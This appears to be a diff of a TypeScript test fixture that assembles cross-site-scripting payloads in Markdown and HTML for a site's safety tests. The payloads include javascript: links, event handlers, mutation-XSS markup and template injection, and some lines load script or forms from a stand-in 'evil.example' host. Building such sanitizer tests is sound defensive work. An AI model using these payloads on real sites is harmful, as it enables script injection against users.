@@ -1,13 +1,170 @@
 import naughty from 'big-list-of-naughty-strings' with { type: 'json' };
-import { MARKDOWN_PAYLOADS } from './markdown-payloads.ts';
 
-/** What of the public list tries to be run by a browser: markup, handlers, addresses that are scripts. */
-const HAS_TO_DO_WITH_SCRIPT = /<[a-z!/?%\\]|javascript|script|\bon\w+\s*=|alert|&#|\\x3c/i;
+const TAB = '\t';
+const NUL = '\0';
 
-/** The strings of the big list of naughty strings that have to do with script. */
+const links = [
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](  javascript:alert(1)  )',
+  '[a](<javascript:alert(1)>)',
+  '[a](<java\\script:alert(1)>)',
+  `[a](<java${TAB}script:alert(1)>)`,
+  `[a](java${NUL}script:alert(1))`,
+  '[a](java&#x09;script:alert(1))',
+  '[a](java&#10;script:alert(1))',
+  '[a](java&NewLine;script&colon;alert(1))',
+  '[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
+  '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
+  '[a](\\javascript\\:alert\\(1\\))',
+  '[a](javascript&#58;alert&#40;1&#41;)',
+  '[a](javascript%3Aalert(1))',
+  '[a](%6aavascript:alert(1))',
+  '[a](&#1;javascript:alert(1))',
+  '[a](\u2028javascript:alert(1))',
+  '[a](\u00a0javascript:alert(1))',
+  '[a](vbscript:msgbox(1))',
+  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[a](data:text/html,<script>alert(1)</script>)',
+  '[a](blob:https://evil.example/1)',
+  '[a](filesystem:https://evil.example/temporary/x)',
+  '[a](view-source:javascript:alert(1))',
+  '[a](feed:javascript:alert(1))',
+  '[a](//evil.example/x)',
+  '[a](/\\evil.example/x)',
+  '[a](\\\\evil.example/x)',
+  '[a](javascript://evil.example/%0aalert(1))',
+  '[a](/x "onclick=alert(1)")',
+  '[a](/x \'" onmouseover="alert(1)\')',
+  '[a](/x (" autofocus onfocus=alert(1) x="))',
+  '[a](/x"onclick="alert(1))',
+  '[a](</x" onclick="alert(1)>)',
+  '[a](mailto:a@b.example?subject="><img src=x onerror=alert(1)>)',
+  '[a](tel:1"onclick="alert(1))',
+  '[a[b](javascript:alert(1))](javascript:alert(2))',
+  '[![a](javascript:alert(1))](javascript:alert(2))',
+  '[<img src=x onerror=alert(1)>](/x)',
+  '<javascript:alert(1)>',
+  '<JAVASCRIPT:alert(1)>',
+  '<java&#115;cript:alert(1)>',
+  '<https://evil.example/"onclick="alert(1)>',
+  '<data:text/html,alert(1)>',
+  'https://evil.example/"onmouseover="alert(1)',
+  'www.evil.example/<script>alert(1)</script>',
+  'xmpp:alert@evil.example/1',
+  'a@evil.example"onclick="alert(1)',
+  '[a]: javascript:alert(1)\n\n[a] [a][] [b][a]',
+  '[a]: <javascript:alert(1)> "x"\n\n![a]',
+  '[x"onclick="alert(1)]: /x\n\n[x"onclick="alert(1)]',
+];
+
+const pictures = [
+  '![a](x)',
+  '![a](https://evil.example/x.png)',
+  '![a](//evil.example/x.png)',
+  '![a](javascript:alert(1))',
+  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![a](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
+  '![a](blob:https://evil.example/1)',
+  '![" onerror="alert(1)](/images/uploads/x.webp)',
+  '![a](/images/uploads/x.webp "\\" onerror=\\"alert(1)")',
+  '![a](/images/uploads/../../admin)',
+  '![a](/images/uploads/0123456789abcdef0123456789abcdef-9x9.svg)',
+  '![a](/images/uploads/0123456789abcdef0123456789abcdef-9x9.webp?x=//evil.example)',
+  '![a](/images/uploads/0123456789abcdef0123456789abcdef-9x9.webp#"onload="alert(1))',
+  '![a](https://evil.example/images/uploads/0123456789abcdef0123456789abcdef-9x9.webp)',
+  '![a](/images/uploads/%2e%2e/x.webp)',
+  '![<script>alert(1)</script>](x "<script>alert(1)</script>")',
+];
+
+const markup = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\n>alert(1)</script\n>',
+  'a <script src=//evil.example/x.js></script> b',
+  '<img src=x onerror=alert(1)>',
+  '<img/src=`x`onerror=alert(1)//',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<math href="javascript:alert(1)">a</math>',
+  '<math><mi//xlink:href="data:text/html,<script>alert(1)</script>">',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<title></title><script>alert(1)</script>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<base href="//evil.example/">\n\n[a](x)',
+  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
+  '<link rel="stylesheet" href="//evil.example/x.css">',
+  '<style>@import "//evil.example/x.css"; body { background: url(//evil.example/y) }</style>',
+  '<p style="background:url(//evil.example/x)">a</p>',
+  '<form action="//evil.example/"><input name=x><button formaction="javascript:alert(1)">a</button></form>',
+  '<video><source onerror="alert(1)"></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>a</details>',
+  '<input autofocus onfocus=alert(1)>',
+  '<body onload=alert(1)>',
+  '<marquee onstart=alert(1)>a</marquee>',
+  '<div onpointerenter="alert(1)">a</div>',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="/x" target="_blank" rel="opener" onclick="alert(1)">a</a>',
+  '<a id=location href=x>a</a><a id=location name=href href=x>b</a>',
+  '<img name=body><img name=getElementById><form id=document><input name=cookie></form>',
+  '<custom-element is=script onclick=alert(1)>a</custom-element>',
+  '<portal src="//evil.example"></portal>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?php echo "<img src=x onerror=alert(1)>" ?><img src=x onerror=alert(1)>',
+  '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;',
+  '\\<img src=x onerror=alert(1)>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+];
+
+const blocks = [
+  '# <img src=x onerror=alert(1)>',
+  '## location\n\n## name\n\n## constructor\n\n## __proto__\n\n## cookie\n\n## process\n\n## main',
+  '## " onclick="alert(1)',
+  '| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n| - | - |\n| ![a](x "\\"onload=\\"alert(1)") | <script>alert(1)</script> |',
+  '| "onclick="alert(1) |\n| :-: |\n| 1 |',
+  '``` "onclick="alert(1)\n<img src=x onerror=alert(1)>\n```',
+  '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
+  '`<img src=x onerror=alert(1)>` ``</code><script>alert(1)</script>``',
+  '    <script>alert(1)</script>\n    </pre><img src=x onerror=alert(1)>',
+  '> <script>alert(1)</script>\n> [a](javascript:alert(1))',
+  '- <script>alert(1)</script>\n- [ ] [a](javascript:alert(1))',
+  '1) <svg onload=alert(1)>',
+  'a[^x"onclick="alert(1)]\n\n[^x"onclick="alert(1)]: <img src=x onerror=alert(1)> [b](javascript:alert(1))',
+  'a[^<script>]\n\n[^<script>]: b',
+  '[a[^1]](/x)\n\n[^1]: [c](javascript:alert(1))',
+  '~~<img src=x onerror=alert(1)>~~ **<script>alert(1)</script>** _[a](javascript:alert(1))_',
+  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
+  '<p>\n\n[a](javascript:alert(1))\n\n<script>alert(1)</script>\n\n</p>',
+  'a\n<img src=x\nonerror=alert(1)>\nb',
+  '*<a href="*" onclick=alert(1)>',
+  '[<b](/x)onclick=alert(1)>',
+  '`<a title="`" onclick=alert(1)>',
+];
+
+/** Our own script injection payloads in Markdown: links, pictures, HTML and blocks. */
+export const MARKDOWN_PAYLOADS: readonly string[] = [...links, ...pictures, ...markup, ...blocks];
+
+/** Matches markup, event handlers and script URLs. */
+const SCRIPT_PATTERN = /<[a-z!/?%\\]|javascript|script|\bon\w+\s*=|alert|&#|\\x3c/i;
+
+/** The strings of the big list of naughty strings that may inject a script. */
 export const NAUGHTY_PAYLOADS: readonly string[] = (naughty as readonly string[]).filter((text) =>
-  HAS_TO_DO_WITH_SCRIPT.test(text),
+  SCRIPT_PATTERN.test(text),
 );
 
-/** Every text that the safety tests feed to posts: a public list's, and our own in Markdown. */
+/** All payloads of the safety tests. */
 export const SCRIPT_PAYLOADS: readonly string[] = [...NAUGHTY_PAYLOADS, ...MARKDOWN_PAYLOADS];
